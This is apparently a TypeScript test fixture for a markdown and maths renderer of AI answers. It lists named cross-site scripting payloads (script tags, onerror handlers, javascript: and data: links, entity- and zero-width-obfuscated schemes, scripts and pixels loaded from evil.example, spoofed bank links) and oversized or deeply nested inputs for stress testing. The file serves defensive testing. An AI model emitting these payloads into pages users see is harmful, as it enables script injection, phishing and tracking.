/** What a model may be brought to write, by name. */
export const hostileAnswers: Record<string, string> = {
  html: 'a <b onclick="alert(1)">b</b> <img src=x onerror=alert(1)> <svg/onload=alert(1)> c',
  script: '<script>alert(1)</script>\n\n<script src="https://evil.example/x.js"></script>\n\ntext',
  'html blocks':
    '<div style="position:fixed">\n\n<iframe src="https://evil.example"></iframe>\n\n</div>\n\n<style>*{}</style>',
  comment: 'a <!-- <img src=x onerror=alert(1)> --> b <!--> <script>alert(1)</script> -->',
  'javascript links':
    '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c]( javascript:alert(1)) <javascript:alert(1)>',
  'data links': '[a](data:text/html,<script>alert(1)</script>) <data:text/html,x> ![b](data:image/svg+xml,<svg>)',
  'entities in schemes':
    '[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1)) [c](java&Tab;script:alert(1)) [d](java&NewLine;script:alert(1)) [e](&#x6A;avascript&#58;alert(1))',
  'reference links': '[a][b] [b]\n\n[b]: javascript:alert(1) "title"\n\n[c]: <data:text/html,x>',
  'link titles': '[a](https://a.example "x\\" onmouseover=\\"alert(1)") [b](https://a.example\'onclick=alert(1))',
  images:
    '![a](https://evil.example/pixel.png?q=1) [![b](https://evil.example/p.png)](https://evil.example) ![c][d]\n\n[d]: https://evil.example/d.png',
  'other schemes':
    '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x) [d](//evil.example) [e](/api/account) [f](ftp://a.example)',
  hosts: '[https://bank.example](https://evil.example) [x](https://bank.example@evil.example)',
  code: '```html" onclick="alert(1)\n<script>alert(1)</script>\n```\n\n`<script>alert(1)</script>`',
  'code names': '```"><script>alert(1)</script>\nx\n```\n\n~~~ style=x onload=y\nz\n~~~',
  maths:
    '$$\\href{javascript:alert(1)}{x}$$ \\(\\style{color:red}{x}\\)\n\n$$\n\\class{evil}{x} \\includegraphics{https://evil.example/x.png}\n$$',
  'maths of html': '$$\\text{<img src=x onerror=alert(1)>}$$ \\(<script>alert(1)</script>\\)',
  tables:
    '| <b>a</b> | [b](javascript:alert(1)) |\n|:-:|--:|\n| <script>alert(1)</script> | ![c](https://evil.example/c.png) |',
  footnotes: 'a[^1] b[^<script>]\n\n[^1]: [x](javascript:alert(1)) <script>alert(1)</script>',
  'task lists': '- [x] <input onfocus=alert(1) autofocus>\n- [ ] [a](javascript:alert(1))',
  headings: '# <script>alert(1)</script>\n\n[a](javascript:alert(1))\n===',
  'split tags': '<scr\nipt>alert(1)</scr\nipt> <a href="java\nscript:alert(1)">x</a>',
  'zero width': '[a](java\u200bscript:alert(1)) [b](\u0000javascript:alert(1)) [c](\u0001javascript:alert(1))',
  autolinks: 'https://a.example/"onmouseover="alert(1) www.a.example/<script> a@b.example"onclick=alert(1)',
}

/** Answers that are long or deep rather than evil, by name. */
export const hugeAnswers: Record<string, string> = {
  'nested quotes': `${'>'.repeat(200)} x`,
  'quotes with spaces': `${'> '.repeat(200)}x`,
  'nested items': `${'- '.repeat(200)}x`,
  'nested lists': Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  'one word': 'a'.repeat(100_000),
  'dots without a space': 'a.'.repeat(50_000),
  backticks: '`'.repeat(10_000),
  'backticks of all lengths': Array.from({ length: 140 }, (_, length) => '`'.repeat(length + 1)).join(' '),
  stars: '*a '.repeat(10_000),
  brackets: '[a]('.repeat(10_000),
  images: '!['.repeat(10_000),
  dollars: '$$a '.repeat(10_000),
  'openers of maths': '\\(a '.repeat(10_000),
  columns: `${'|a'.repeat(5_000)}\n${'|-'.repeat(5_000)}\n`,
  tags: '<a '.repeat(10_000),
  lines: 'a\n'.repeat(50_000),
}
